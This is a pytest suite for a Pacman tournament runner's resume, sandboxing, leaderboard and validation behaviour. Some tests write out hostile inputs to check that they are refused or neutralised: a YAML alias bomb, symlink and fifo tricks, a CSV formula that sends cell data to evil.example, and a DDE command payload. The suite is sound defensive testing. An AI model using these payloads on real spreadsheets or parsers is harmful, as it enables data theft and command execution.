"""`tournament run` end to end: resumable after SIGKILL, Ctrl-C and dead workers, the same
results on one worker or two, stale submissions replayed, hostile teams isolated, and the
other commands (status, leaderboard, validate) on the stored results."""

from __future__ import annotations

import contextlib
import csv
import json
import os
import random
import shutil
import signal
import sqlite3
import subprocess
import textwrap
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from pacman.rules import DEATH_PENALTY
from pacman.sandbox.guarantees import missing
from tests.chaos import pool_workers
from tests.commands import TOURNAMENT
from tests.test_sandbox_zoo import ACTIVE, UNAVAILABLE, ZOO

REPO = Path(__file__).parent.parent
#: What decides a game; timings, hosts and dates do not.
DETERMINISTIC = ("game_id", "entrant", "submission_hash", "cell", "seed", "outcome", "culprit",
                 "score", "win", "moves")

pytestmark = pytest.mark.skipif(bool(UNAVAILABLE), reason=f"no sandbox here: {UNAVAILABLE}")


#: Time limits short enough that a hostile agent's games end quickly.
LIMITS = "{startup: 5, move_soft: 0.5, move_warnings: 1, move_hard: 1, memory_mb: 256}"
#: Every test tournament's secret: runs in different folders play the same games, so their
#: results can be compared.
SECRET = "5e" * 32
#: What these tests are about is the tournament, not the machine: they accept the sandbox
#: guarantees this machine lacks (the refusal is tested in test_sandbox_guarantees.py).
ACCEPT = ", ".join(g.name for g in missing(ACTIVE))


def make_tournament(root: Path, teams: dict[str, str], games: int = 6, workers: int = 2,
                    layouts: str = "[smallClassic, testClassic]", limits: str = LIMITS) -> Path:
    """A config in `root` with a team folder per (name -> zoo file or 'example')."""
    subs = root / "submissions"
    for name, source in teams.items():
        if source == "example":
            shutil.copytree(REPO / "submissions" / "example-team", subs / name)
        else:
            (subs / name).mkdir(parents=True)
            shutil.copy(ZOO / f"{source}.py", subs / name / "agent.py")
            (subs / name / "team.yaml").write_text("agent: agent.py:ZooAgent\n")
    (root / "cup.secret").write_text(SECRET)
    config = root / "t.yaml"
    config.write_text(textwrap.dedent(f"""\
        name: Test cup
        seed: 11
        secret_file: cup.secret
        sandbox: {{accept_missing: [{ACCEPT}]}}
        entrants:
          submissions: submissions
          baselines:
            - name: greedy
              agent: GreedyAgent
        grid:
          layouts: {layouts}
          depths: [1]
          ghosts: [{{agent: RandomGhost, count: 1}}]
          max_moves: 200
        games_per_cell: {games}
        limits: {limits}
        workers: {workers}
        output: out
        record: {{replays: failures}}
        """))
    return config


def tournament(*args: str, check: bool = True, **kw: object) -> subprocess.CompletedProcess[str]:
    result = subprocess.run([*TOURNAMENT, *args], capture_output=True,
                            text=True, timeout=600, cwd=REPO, **kw)  # type: ignore[call-overload]
    if check:
        assert result.returncode == 0, result.stdout + result.stderr
    return result  # type: ignore[no-any-return]


def validate_then_run_naming(config: Path, broken: dict[str, str],
                             kinds: dict[str, str]) -> None:
    """`validate` fails naming each broken team's kind of problem and the problem (the
    others ok), then `run` plays anyway, warning of each: one broken team stops nobody.

    Validation names a team's files as the team sees them (`bomb/team.yaml`: its table is
    for mailing the teams), `run` as the organizer does."""
    checked = tournament("validate", str(config), check=False)
    assert checked.returncode == 1, checked.stdout + checked.stderr
    assert "Traceback" not in checked.stdout + checked.stderr
    assert "alpha: ok, sandboxed" in checked.stdout
    lines = checked.stdout.splitlines()
    subs = f"{config.parent / 'submissions'}/"
    for name, problem in broken.items():
        found = [x for x in lines if x.startswith(f"  {name}: FAILED {kinds[name]}")]
        assert len(found) == 1, (name, checked.stdout)
        assert problem.replace(subs, "") in found[0], (problem, found[0])
    ran = tournament("run", str(config))
    assert "Traceback" not in ran.stdout + ran.stderr
    for name, problem in broken.items():
        assert f"warning: team {name} cannot play, so its games are recorded as its " \
               f"load_error: {problem}" in ran.stdout


def rows(config: Path) -> list[tuple[object, ...]]:
    with sqlite3.connect(config.parent / "out" / "results.sqlite") as conn:
        return sorted(conn.execute(f"SELECT {', '.join(DETERMINISTIC)} FROM games"))


@pytest.fixture(scope="module")
def reference(tmp_path_factory: pytest.TempPathFactory) -> list[tuple[object, ...]]:
    """An uninterrupted run on two workers."""
    config = make_tournament(tmp_path_factory.mktemp("reference"), {"alpha": "example"})
    tournament("run", str(config))
    return rows(config)


def test_one_worker_gives_the_results_of_two(tmp_path: Path,
                                             reference: list[tuple[object, ...]]) -> None:
    config = make_tournament(tmp_path, {"alpha": "example"}, workers=1)
    out = tournament("run", str(config)).stdout
    assert "24 to play" in out and "Test cup" in out
    assert rows(config) == reference
    assert len(reference) == 2 * 2 * 6  # entrants x layouts x games


def test_killed_with_sigkill_then_resumed_gives_the_same_results(
        tmp_path: Path, reference: list[tuple[object, ...]]) -> None:
    config = make_tournament(tmp_path, {"alpha": "example"})
    proc = subprocess.Popen([*TOURNAMENT, "run", str(config)],
                            cwd=REPO, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    database = tmp_path / "out" / "results.sqlite"
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:
        if database.exists():
            try:
                with sqlite3.connect(database) as conn:
                    if conn.execute("SELECT count(*) FROM games").fetchone()[0] >= 3:
                        break
            except sqlite3.OperationalError:  # created, its table not yet
                pass
        time.sleep(0.05)
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    partial = rows(config)
    assert 3 <= len(partial) < len(reference)
    out = tournament("run", str(config)).stdout
    assert f"{len(partial)} already stored" in out
    assert rows(config) == reference


def stored(database: Path) -> int:
    """How many games the results file holds (0 while it or its table does not exist)."""
    if not database.exists():
        return 0
    try:
        with sqlite3.connect(database) as conn:
            return int(conn.execute("SELECT count(*) FROM games").fetchone()[0])
    except sqlite3.OperationalError:  # created, its table not yet
        return 0


def wait_until(condition: Callable[[], bool], what: str, proc: subprocess.Popen[str],
               deadline: float = 120) -> None:
    """Poll `condition` until it holds; fail naming `what` if the deadline passes first or
    the run ends without it."""
    end = time.monotonic() + deadline
    while not condition():
        assert proc.poll() is None, f"the run ended before {what}: {proc.communicate()[0]}"
        assert time.monotonic() < end, f"no {what} within {deadline} s"
        time.sleep(0.02)


@contextlib.contextmanager
def ctrl_c_for_children() -> Iterator[None]:
    """Children started inside get Python's Ctrl-C handling even if this process ignores
    SIGINT, as a background job of a shell script does (`make test &`): an ignored SIGINT is
    inherited, Python then installs no handler, and the signal would never stop the run. A
    handled signal is reset to its default in the child, where Python handles it again."""
    previous = signal.signal(signal.SIGINT, signal.default_int_handler)
    try:
        yield
    finally:
        signal.signal(signal.SIGINT, previous)


def stopped_midway(args: list[str], cwd: Path, condition: Callable[[], bool], what: str,
                   sig: int = signal.SIGINT) -> tuple[subprocess.Popen[str], str]:
    """`tournament *args` sent `sig` once `condition` holds (`wait_until`, given ten minutes:
    only a failure waits that long, and a loaded machine may take minutes to start a run's
    sandboxes): the process, ended, and what it printed."""
    with ctrl_c_for_children():
        proc = subprocess.Popen([*TOURNAMENT, *args], cwd=cwd,
                                stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    try:
        wait_until(condition, what, proc, deadline=600)
        proc.send_signal(sig)
        out, _ = proc.communicate(timeout=120)
    finally:
        proc.kill()
    return proc, out


def test_ctrl_c_stops_cleanly_and_keeps_what_finished(tmp_path: Path) -> None:
    """The team's agent never answers and no time limit ends its games, so the run cannot
    end by itself: the baseline's first game is stored, then Ctrl-C must stop it."""
    config = make_tournament(tmp_path, {"alpha": "honest"}, games=3, layouts="[testClassic]",
                             limits="{startup: 60, move_soft: null, move_hard: null}")
    agent = tmp_path / "submissions" / "alpha" / "agent.py"
    agent.write_text("import time\n\n\nclass ZooAgent:\n    def getAction(self, state):\n"
                     "        while True:\n            time.sleep(60)\n")
    database = tmp_path / "out" / "results.sqlite"
    proc, out = stopped_midway(["run", str(config)], REPO, lambda: stored(database) >= 1,
                               "stored game")
    assert proc.returncode == 130, out
    assert "run the same command again to finish" in out
    kept = stored(database)
    assert kept >= 1 and f"stopped: {kept} of 6 games stored" in out
    assert not pool_workers(proc.pid)
    status = tournament("status", str(config)).stdout
    assert f"{6 - kept} games to play" in status
    # The run is recorded as stopped, with the games it stored.
    assert f", stopped, {kept} game" in status
    with sqlite3.connect(database) as conn:
        assert conn.execute("SELECT run_id, ended, games FROM runs").fetchall() == [
            (1, "stopped", kept)]
        assert conn.execute("SELECT DISTINCT run_id FROM games").fetchall() == [(1,)]


def test_dead_workers_only_cost_replays(tmp_path: Path,
                                        reference: list[tuple[object, ...]]) -> None:
    """Workers of the run are SIGKILLed at random moments while it plays; it still ends
    normally with every game stored, each as the undisturbed run played it, or as the
    platform's failure if the same game lost its worker more than twice."""
    config = make_tournament(tmp_path, {"alpha": "example"})
    log = (tmp_path / "run.log").open("w+")
    proc = subprocess.Popen([*TOURNAMENT, "run", str(config)],
                            cwd=REPO, stdout=log, stderr=subprocess.STDOUT, text=True)
    rng = random.Random(5)
    killed = 0
    try:
        while killed < 6:
            with contextlib.suppress(subprocess.TimeoutExpired):
                proc.wait(timeout=rng.uniform(0.0, 0.3))
            if proc.poll() is not None:
                break
            workers = pool_workers(proc.pid)
            if workers:
                with contextlib.suppress(ProcessLookupError):
                    os.kill(rng.choice(workers), signal.SIGKILL)
                    killed += 1
        proc.wait(timeout=300)
    finally:
        proc.kill()
    log.seek(0)
    out = log.read()
    assert proc.returncode == 0, out
    got = rows(config)
    assert [r[0] for r in got] == [r[0] for r in reference], f"{killed} kills: {out}"
    for mine, theirs in zip(got, reference):
        assert mine == theirs or mine[5] == "infra_error", (mine, theirs, f"{killed} kills")
    status = tournament("status", str(config)).stdout
    infra = sum(r[5] == "infra_error" for r in got)
    assert ("complete" in status) if not infra else (f"{infra} games to play" in status)
    assert missing_column(status) == [0, 0]


def missing_column(status: str) -> list[int]:
    """The `missing` count of each entrant in `tournament status`'s table (columns: entrant,
    side, done, missing, ...)."""
    counts = []
    for line in status.splitlines():
        cells = [c.strip() for c in line.replace("│", "|").split("|")]
        if len(cells) >= 8 and cells[3].isdigit():
            counts.append(int(cells[4]))
    return counts


def test_a_changed_submission_makes_only_its_games_stale(tmp_path: Path) -> None:
    config = make_tournament(tmp_path, {"alpha": "example", "beta": "honest"}, games=2)
    tournament("run", str(config))
    before = {r[0]: r for r in rows(config)}
    with open(tmp_path / "submissions" / "beta" / "agent.py", "a") as fh:
        fh.write("\n# a new version\n")
    status = tournament("status", str(config)).stdout
    assert "games to play" in status
    out = tournament("run", str(config)).stdout
    assert "4 to play (4 stale" in out
    after = {r[0]: r for r in rows(config)}
    changed = {gid for gid in after if after[gid][2] != before[gid][2]}
    assert changed == {gid for gid in after if gid.startswith("beta@")}

    # Which run each game comes from: beta's the second, the others' the first.
    with sqlite3.connect(tmp_path / "out" / "results.sqlite") as conn:
        run_of = dict(conn.execute("SELECT game_id, run_id FROM games"))
        runs = conn.execute("SELECT run_id, ended, games, finished_at >= started_at "
                            "FROM runs").fetchall()
    assert run_of == {gid: 2 if gid in changed else 1 for gid in after}
    assert runs == [(1, "finished", len(before), 1), (2, "finished", 4, 1)]
    assert ", finished, 4 games" in tournament("status", str(config)).stdout

    # The report says so on each team's page, with when the manifest says its files changed.
    from tests.site import Page
    from tournament.manifest import Manifest, TeamRecord, write_manifest

    def collected(team: str, changed: str) -> TeamRecord:
        return TeamRecord(team=team, name=team, members=(), source=f"git: {tmp_path}/{team}",
                          submitted_at=changed, late=False, late_seconds=0.0, files={},
                          commit="c0ffee" * 6 + "abcd", changed_at=changed)

    write_manifest(tmp_path / "submissions", Manifest(teams=(
        collected("alpha", "2025-03-01T10:00:00+00:00"),
        collected("beta", "2025-03-02T10:00:00+00:00"))))
    tournament("report", str(config))
    report = tmp_path / "out" / "report"
    for team, run in (("alpha", 1), ("beta", 2)):
        files = [row.cells for row in Page(report / f"team-{team}.html").tables["files-table"]]
        assert ["Files collected (last changed)", f"2025-03-0{run} 10:00 UTC"] in files
        assert ["Commit", "c0ffee" * 6 + "abcd"] in files
        [games] = [cells[1] for cells in files if cells[0] == "Games from"]
        assert games.startswith(f"run {run} (started ") and games.endswith(
            f", finished): {sum(gid.startswith(team + '@') for gid in after)} games")
    index = Page(report / "index.html")
    assert [row.cells[0] for row in index.tables["runs"][1:]] == ["2", "1"]


def test_a_hostile_team_does_not_disturb_the_others(tmp_path: Path) -> None:
    # A hard limit of 5 s a move: filling 256 MiB must end in `memory` even on a machine
    # whose cores are busy (with 1 s it sometimes met the clock first, a `timeout`).
    limits = "{startup: 5, move_soft: 0.5, move_warnings: 1, move_hard: 5, memory_mb: 256}"
    calm = make_tournament(tmp_path / "calm", {"alpha": "example"}, games=2, limits=limits)
    tournament("run", str(calm))
    rough = make_tournament(tmp_path / "rough", {"alpha": "example", "mallory": "memory_blowup",
                                                 "trudy": "infinite_loop"}, games=2,
                            limits=limits)
    tournament("run", str(rough))
    mine = [r for r in rows(rough) if r[1] in ("alpha", "greedy")]
    assert mine == rows(calm)
    hostile = {r[1]: r[5] for r in rows(rough) if r[1] in ("mallory", "trudy")}
    assert hostile == {"mallory": "memory", "trudy": "timeout"}
    # Their failures were recorded with a replay to watch.
    with sqlite3.connect(tmp_path / "rough" / "out" / "results.sqlite") as conn:
        replays = [r[0] for r in conn.execute("SELECT replay FROM games WHERE entrant='trudy'")]
    assert replays and all(Path(p).is_file() for p in replays)


def test_leaderboard_writes_csv_markdown_json_and_every_game(tmp_path: Path) -> None:
    config = make_tournament(tmp_path, {"alpha": "example", "crasher": "move_raises"}, games=2)
    tournament("run", str(config))
    out = tournament("leaderboard", str(config)).stdout
    assert "crasher" in out and "greedy" in out
    folder = tmp_path / "out"
    board = json.loads((folder / "leaderboard.json").read_text())
    assert {row["entrant"] for row in board} == {"alpha", "crasher", "greedy"}
    crasher = next(row for row in board if row["entrant"] == "crasher")
    assert crasher["crash"] == crasher["games"] == 4 and crasher["win_rate"] == 0
    assert board[-1]["entrant"] == "crasher"
    assert (folder / "leaderboard.md").read_text().startswith("| rank |")
    with open(folder / "games.csv", newline="") as fh:
        games = list(csv.DictReader(fh))
    assert len(games) == 3 * 2 * 2
    assert {g["outcome"] for g in games if g["entrant"] == "crasher"} == {"crash"}
    # A failure scores its score at that moment less what being caught costs.
    with sqlite3.connect(folder / "results.sqlite") as conn:
        crashes = list(conn.execute("SELECT replay, score FROM games WHERE outcome = 'crash'"))
    assert len(crashes) == 4
    for replay, score in crashes:
        assert score == json.loads(Path(replay).read_text())["score"] - DEATH_PENALTY - 1
    assert (folder / "leaderboard.csv").read_text().splitlines()[0].startswith("rank,")
    with open(folder / "cells.csv", newline="") as fh:
        cells = list(csv.DictReader(fh))
    assert {(c["entrant"], c["layout"]) for c in cells} == {
        (e, lay) for e in ("alpha", "crasher", "greedy") for lay in ("smallClassic", "testClassic")}
    assert all(c["games"] == "2" for c in cells)


def test_validate_gives_a_verdict_per_team(tmp_path: Path) -> None:
    config = make_tournament(tmp_path, {"alpha": "example", "broken": "syntax_error"})
    result = tournament("validate", str(config), check=False)
    assert result.returncode == 1
    assert "alpha: ok, sandboxed" in result.stdout
    # The kind of problem, where, and the sandbox's word for it.
    assert "broken: FAILED syntax_error at agent.py:2: " in result.stdout
    assert "greedy: ok, in-process" in result.stdout
    # The table is written, and nothing of a run: validation plays no tournament game.
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == [".lock", "validation.csv"]


def test_a_bad_config_exits_2_and_writes_nothing(tmp_path: Path) -> None:
    config = make_tournament(tmp_path, {"alpha": "example"}, layouts="[smalClassic]")
    for command in ("run", "status", "validate", "leaderboard"):
        result = tournament(command, str(config), check=False)
        assert result.returncode == 2
        assert "grid.layouts[0]: unknown layout 'smalClassic'" in result.stderr
    assert not (tmp_path / "out").exists()


def test_a_dask_cluster_gives_the_results_of_the_local_pool(
        tmp_path: Path, reference: list[tuple[object, ...]]) -> None:
    distributed = pytest.importorskip("distributed")
    config = make_tournament(tmp_path, {"alpha": "example"})
    with distributed.LocalCluster(n_workers=2, threads_per_worker=1, processes=True,
                                  dashboard_address=None) as cluster:
        config.write_text(config.read_text() + f"scheduler: {cluster.scheduler_address}\n")
        out = tournament("run", str(config)).stdout
    assert "24 to play" in out
    assert rows(config) == reference
    # The organizer stamps the run on what the cluster's workers sent back.
    with sqlite3.connect(tmp_path / "out" / "results.sqlite") as conn:
        assert conn.execute("SELECT DISTINCT run_id FROM games").fetchall() == [(1,)]
        assert conn.execute("SELECT ended, games FROM runs").fetchall() == [("finished", 24)]


@pytest.mark.parametrize("kind, magic", [("strip", b"\x89PNG"), ("gif", b"GIF8")])
def test_report_shows_each_teams_best_and_worst_game(tmp_path: Path, kind: str,
                                                     magic: bytes) -> None:
    config = make_tournament(tmp_path, {"alpha": "example", "crasher": "move_raises"}, games=2,
                             layouts="[testClassic]")
    tournament("run", str(config))
    out = tournament("report", str(config), "--pictures", kind).stdout
    report = tmp_path / "out" / "report"
    assert "report:" in out
    for team in ("alpha", "crasher", "greedy"):
        page = (report / f"team-{team}.html").read_text()
        assert "Best and worst games" in page
        for which in ("best", "worst"):
            picture = report / "pictures" / f"{team}-{which}.{'gif' if kind == 'gif' else 'png'}"
            assert f'src="pictures/{picture.name}"' in page
            assert picture.read_bytes().startswith(magic)
    # alpha's games kept no replay (record: failures): they were re-created to draw them.
    assert "re-created" in out


def test_the_store_refuses_an_unknown_outcome(tmp_path: Path) -> None:
    from tournament.results import NAMES
    from tournament.store import Store, StoreError

    row = dict.fromkeys(NAMES, "")
    row.update(game_id="a@c#0", outcome="win", culprit=None, depth=None, replay=None)
    for name in ("num_ghosts", "seed", "game_index", "score", "win", "moves", "warnings"):
        row[name] = 0
    with Store(tmp_path / "r.sqlite") as store:
        store.put(row)
        with pytest.raises(StoreError, match="unknown outcome 'bogus'"):
            store.put({**row, "game_id": "a@c#1", "outcome": "bogus"})
        assert list(store.hashes()) == ["a@c#0"]


def test_what_a_team_prints_is_kept_in_a_log_per_game(tmp_path: Path) -> None:
    config = make_tournament(tmp_path, {"chatty": "honest"}, games=1, layouts="[testClassic]")
    agent = tmp_path / "submissions" / "chatty" / "agent.py"
    agent.write_text(agent.read_text().replace(
        "    def getAction(self, state):\n",
        "    def getAction(self, state):\n        print('thinking about', state.getScore())\n"))
    tournament("run", str(config))
    logs = sorted((tmp_path / "out" / "logs" / "chatty").rglob("*.log"))
    assert [p.name for p in logs] == ["0.log"]
    assert logs[0].read_text().startswith("thinking about 0")
    assert not (tmp_path / "out" / "logs" / "greedy").exists()  # built-ins print nothing


def test_teams_that_cannot_be_resolved_lose_their_games_and_the_others_play(
        tmp_path: Path) -> None:
    """A team.yaml alias bomb or deep nesting, a file linked to another team's, a linked team
    folder, a fifo: no traceback, no hang, no config error for the organizer; `validate`
    names each problem, `run` plays everyone and records the broken teams' games as their
    own load_error, and a fixed folder is played again."""
    config = make_tournament(tmp_path, {"alpha": "example"}, games=1, layouts="[testClassic]")
    subs = tmp_path / "submissions"
    agent = "agent: multiAgents.py:ExampleExpectimaxAgent\n"
    anchors = ['l0: &l0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    anchors += [f"l{i}: &l{i} [" + ", ".join([f"*l{i - 1}"] * 9) + "]" for i in range(1, 10)]
    for name, team_yaml in [("bomb", "\n".join(anchors) + "\n" + agent + "args: {x: *l9}\n"),
                            ("deep", agent + "args: " + "[" * 10_000 + "]" * 10_000 + "\n"),
                            ("copycat", agent), ("piped", agent)]:
        shutil.copytree(REPO / "submissions" / "example-team", subs / name)
        (subs / name / "team.yaml").write_text(team_yaml)
    (subs / "copycat" / "multiAgents.py").unlink()
    (subs / "copycat" / "multiAgents.py").symlink_to(subs / "alpha" / "multiAgents.py")
    os.mkfifo(subs / "piped" / "weights.pkl")
    (subs / "mirror").symlink_to(subs / "alpha")
    broken = {
        "bomb": f"{subs / 'bomb' / 'team.yaml'}: line 1, column 5: an anchor (&name) is not "
                "allowed here",
        "deep": f"{subs / 'deep' / 'team.yaml'}: line 2, column 14: nested more than 8 levels",
        "copycat": f"{subs / 'copycat' / 'multiAgents.py'}: is a symbolic link",
        "piped": f"{subs / 'piped' / 'weights.pkl'}: is a named pipe (fifo)",
        "mirror": f"{subs / 'mirror'}: the team folder is a symbolic link",
    }

    kinds = {"bomb": "bad_team_yaml", "deep": "bad_team_yaml", "copycat": "folder_refused",
             "piped": "folder_refused", "mirror": "folder_refused"}
    validate_then_run_naming(config, broken, kinds)
    outcomes = {r[1]: (r[5], r[6], r[7]) for r in rows(config)}
    assert {name: outcomes[name] for name in broken} == {
        name: ("load_error", 0, -501) for name in broken}  # scored as a death at move 1
    assert outcomes["alpha"][0] in ("win", "loss", "move_limit")
    assert outcomes["greedy"][0] in ("win", "loss", "move_limit")
    with sqlite3.connect(tmp_path / "out" / "results.sqlite") as conn:
        messages = dict(conn.execute("SELECT entrant, message FROM games"))
    for name, problem in broken.items():
        assert messages[name].startswith(problem[:60])

    # The copycat submits its own copy: its folder's hash changes and its game is replayed.
    (subs / "copycat" / "multiAgents.py").unlink()
    shutil.copy(subs / "alpha" / "multiAgents.py", subs / "copycat" / "multiAgents.py")
    again = tournament("run", str(config)).stdout
    assert "1 to play (1 stale" in again
    assert {r[1]: r[5] for r in rows(config)}["copycat"] in ("win", "loss", "move_limit")


def test_games_csv_neutralises_formulas_an_agent_chose_and_keeps_numbers(
        tmp_path: Path) -> None:
    """Whatever text an agent gets into its failure message (here put in the store as if it
    had), games.csv read back by the csv module holds it as quoted text; scores stay numbers."""
    config = make_tournament(tmp_path, {"alpha": "example"}, games=1, layouts="[testClassic]")
    tournament("run", str(config))
    formula = '=HYPERLINK("http://evil.example/?"&A1,"details")'
    with sqlite3.connect(tmp_path / "out" / "results.sqlite") as conn:
        conn.execute("UPDATE games SET message = ?, trace = ?, score = -517 "
                     "WHERE entrant = 'alpha'", (formula, "@SUM(1+1)*cmd|' /C calc'!A0"))
    tournament("leaderboard", str(config))
    with open(tmp_path / "out" / "games.csv", newline="", encoding="utf-8") as fh:
        games = {row["entrant"]: row for row in csv.DictReader(fh)}
    assert games["alpha"]["message"] == "'" + formula
    assert games["alpha"]["trace"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert games["alpha"]["score"] == "-517"
    with open(tmp_path / "out" / "leaderboard.csv", newline="", encoding="utf-8") as fh:
        board = {row["entrant"]: row for row in csv.DictReader(fh)}
    assert float(board["alpha"]["mean_score"]) == -517.0


def test_failing_never_scores_better_than_being_caught() -> None:
    # Found by the eighth hostile review: a Pacman that raised just before a certain death kept
    # the 500 points a death costs (mean 665 against 502 for the same agent dying).
    from tournament.runner import tournament_score

    assert tournament_score("crash", 0, 746) == 746 - DEATH_PENALTY - 1
    assert tournament_score("load_error", 0, 0) == -DEATH_PENALTY - 1
    assert tournament_score("timeout", 0, 120) == tournament_score("loss", 0, 120 - 1 - 500)
    assert tournament_score("crash", 1, 300) == 300  # a ghost failed: not Pacman's fault
    assert tournament_score("loss", None, -400) == -400
    assert tournament_score("win", None, 1200) == 1200


def test_a_run_without_room_for_the_teams_copies_says_so_before_playing() -> None:
    # Found by the eighth hostile review: with a small TMPDIR, a legal 200 MiB team's copies
    # found no room and every one of its games was an unscored infra_error, run after run.
    from tournament.runner import copy_room_problem

    mib = 1024 * 1024
    assert copy_room_problem((600 * mib, 10_000), 2, (200 * mib, 30), "/tmp") == ""
    problem = copy_room_problem((200 * mib, 10_000), 2, (200 * mib, 30), "/small")
    assert problem.startswith("the sandbox folder /small has 200 MiB free, but 2 games")
    assert "give it 201 MiB more" in problem and "TMPDIR" in problem
    # Found by the tenth hostile review: room in bytes, but not in inodes, for 4,000 files.
    problem = copy_room_problem((100 * mib, 2999), 2, (31 * mib, 4002), "/few-inodes")
    assert problem.startswith("the sandbox folder /few-inodes has room for 2999 more files")
    assert "4002 files and folders" in problem


def test_the_room_check_measures_the_largest_team(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    from collections import namedtuple

    from tournament import cli
    from tournament.config import load_config

    config = make_tournament(tmp_path, {"alpha": "example", "heavy": "example"}, games=1)
    with open(tmp_path / "submissions" / "heavy" / "weights.bin", "wb") as fh:
        fh.truncate(30 * 1024 * 1024)  # sparse: no disk used here, 30 MiB in a copy
    statvfs = namedtuple("statvfs", "f_bavail f_frsize f_files f_favail")
    monkeypatch.setattr(cli.os, "statvfs", lambda _: statvfs(50 * 256, 4096, 0, 0))
    cli.check_copy_room(load_config(config), 1)  # one copy of 30 MiB fits in 50, and a file
    # system that reports no inode count at all (btrfs) has no limit on them
    monkeypatch.setattr(cli.os, "statvfs", lambda _: statvfs(50 * 256, 4096, 10, 2))
    with pytest.raises(SystemExit):
        cli.check_copy_room(load_config(config), 1)  # 2 inodes left: too few for its files
    capsys.readouterr()
    monkeypatch.setattr(cli.os, "statvfs", lambda _: statvfs(50 * 256, 4096, 10**6, 10**6))
    with pytest.raises(SystemExit) as stop:
        cli.check_copy_room(load_config(config), 2)
    assert stop.value.code == 2
    assert "50 MiB free, but 2 games at once may each copy the largest team's files (30 MiB)" \
        in capsys.readouterr().err


def test_a_results_file_of_the_previous_schema_is_extended_not_refused(tmp_path: Path) -> None:
    """A results file written before the match columns existed keeps its games: the store
    adds the new columns (empty: those games are fixed-format games) instead of refusing it."""
    import sqlite3

    from tournament.results import ADDED, COLUMNS
    from tournament.store import Store

    old = [(name, kind) for name, kind in COLUMNS if name not in ADDED]
    path = tmp_path / "r.sqlite"
    with sqlite3.connect(path) as conn:
        conn.execute(f"CREATE TABLE games ({', '.join(f'{n} {k}' for n, k in old)})")
        values = {name: 0 for name, _ in old}
        values.update(game_id="a@c#0", entrant="a", submission_hash="h", outcome="win")
        marks = ", ".join("?" for _ in old)
        conn.execute(f"INSERT INTO games VALUES ({marks})", [values[n] for n, _ in old])
    conn.close()
    with Store(path) as store:
        frame = store.frame()
        assert list(frame.columns) == [name for name, _ in COLUMNS]
        assert (frame.loc[0, "ghost_entrant"], frame.loc[0, "ghost_hash"]) == ("", "")
        # (Every old column holds 0 here: the platform too, as TEXT.)
        assert store.hashes() == {"a@c#0": ("h", "", "win", values["seed"], "0")}


def test_a_match_game_copies_two_teams_files_and_the_room_check_counts_both(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    """Found by a hostile review: a match game holds the Pacman team's sandbox and the ghost
    team's at once, but the room check counted one copy a game, so a team padding its folder
    made every match game an unscored infra_error, run after run."""
    from collections import namedtuple

    from tests.test_matches_run import make_league
    from tournament import cli
    from tournament.config import load_config
    from tournament.runner import game_copies

    mib = 1024 * 1024
    sizes = [(30 * mib, 10), (20 * mib, 40), (5 * mib, 5)]
    assert game_copies(sizes, False) == ((30 * mib, 40), "the largest team's files")
    assert game_copies(sizes, True)[0] == (50 * mib, 50)
    assert game_copies(sizes[:1], True)[0] == (30 * mib, 10)  # one team never meets itself
    assert game_copies([], True)[0] == (0, 0)
    config = make_league(tmp_path)
    for team in ("alpha", "crash"):
        with open(tmp_path / "submissions" / team / "pad.bin", "wb") as fh:
            fh.truncate(30 * mib)  # sparse: no disk used here, 30 MiB in a copy
    statvfs = namedtuple("statvfs", "f_bavail f_frsize f_files f_favail")
    monkeypatch.setattr(cli.os, "statvfs", lambda _: statvfs(50 * 256, 4096, 0, 0))
    with pytest.raises(SystemExit) as stop:
        cli.check_copy_room(load_config(config), 1)  # 60 MiB in a match game: not in 50
    assert stop.value.code == 2
    assert "50 MiB free, but 1 games at once may each copy two teams' files" in \
        capsys.readouterr().err


def broken_worker(task: object, cache: object = None) -> object:
    """A worker whose sandbox cannot give the run's guarantees: each game the platform's
    failure at once (module-level, so that a pool's worker process can import it)."""
    from tournament.runner import GameOutput, GameTask, make_row

    assert isinstance(task, GameTask)
    return GameOutput(task.key, make_row(task, None, None, "infra_error",
                                         "the sandbox of this game lacked the guarantees"))


def test_games_the_platform_failed_are_said_at_the_end_of_the_run(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Found by the eighteenth hostile review: a worker that could not give the run's
    guarantees failed its games at once as infra_error, and the run ended saying nothing."""
    from click.testing import CliRunner

    from tournament import cli
    from tournament.executors import LocalExecutor

    if UNAVAILABLE:
        pytest.skip(f"no sandbox here: {UNAVAILABLE}")
    config = make_tournament(tmp_path, {"alpha": "example"}, games=1, workers=1,
                             layouts="[testClassic]")

    def executor(self: cli.Playing, workers: int) -> LocalExecutor:
        return LocalExecutor(workers, cache=self.cache, play=broken_worker)

    monkeypatch.setattr(cli.Playing, "executor", executor)
    result = CliRunner().invoke(cli.main, ["run", str(config)])
    assert result.exit_code == 0, result.output
    assert "games ended as the platform's failure (infra_error) and count for no one" in \
        result.output, result.output


class LostCluster:
    """A cluster that plays one game, the platform's failure, and is then lost."""

    def run(self, tasks: object, on_line: Callable[..., object]) -> None:
        from tournament.executors import ClusterError

        task = next(iter(tasks))  # type: ignore[call-overload]
        on_line(task, broken_worker(task))
        raise ClusterError("the scheduler went away")


def test_games_the_platform_failed_are_said_when_a_run_stops_early(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The warning above, when the run ends early too (its cluster lost, or Ctrl-C): the
    review of its fix found those endings silent."""
    from click.testing import CliRunner

    from tournament import cli

    if UNAVAILABLE:
        pytest.skip(f"no sandbox here: {UNAVAILABLE}")
    config = make_tournament(tmp_path, {"alpha": "example"}, games=2, workers=1,
                             layouts="[testClassic]")
    monkeypatch.setattr(cli.Playing, "executor", lambda self, workers: LostCluster())
    result = CliRunner().invoke(cli.main, ["run", str(config)])
    assert result.exit_code == 1, result.output
    assert "stopped: the scheduler went away; 0 of 4 games stored" in result.output
    assert "1 of 4 games ended as the platform's failure (infra_error)" in result.output, \
        result.output
